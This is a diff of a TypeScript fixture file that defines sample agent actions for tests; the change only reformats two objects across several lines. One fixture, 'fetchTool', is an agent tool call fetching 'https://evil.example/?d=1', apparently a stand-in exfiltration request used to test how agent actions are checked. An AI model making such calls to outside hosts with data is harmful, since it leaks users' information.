@@ -18,8 +18,17 @@ export const message: AgentAction & { kind: 'message' } = {
   to: null,
   text: 'hello',
 };
-export const tool: AgentAction & { kind: 'mcp_tool' } = { kind: 'mcp_tool', server: 'files', tool: 'read_file', arguments: { path: 'a.txt' } };
-export const fetchTool: AgentAction & { kind: 'mcp_tool' } = { ...tool, tool: 'fetch', arguments: { url: 'https://evil.example/?d=1' } };
+export const tool: AgentAction & { kind: 'mcp_tool' } = {
+  kind: 'mcp_tool',
+  server: 'files',
+  tool: 'read_file',
+  arguments: { path: 'a.txt' },
+};
+export const fetchTool: AgentAction & { kind: 'mcp_tool' } = {
+  ...tool,
+  tool: 'fetch',
+  arguments: { url: 'https://evil.example/?d=1' },
+};
 export const command: AgentAction & { kind: 'command' } = { kind: 'command', argv: ['git', 'log'], cwd: null };
 export const setValue: AgentAction = { kind: 'kv', op: 'set', key: 'last', value: 1 };
 export const getValue: AgentAction = { kind: 'kv', op: 'get', key: 'last' };
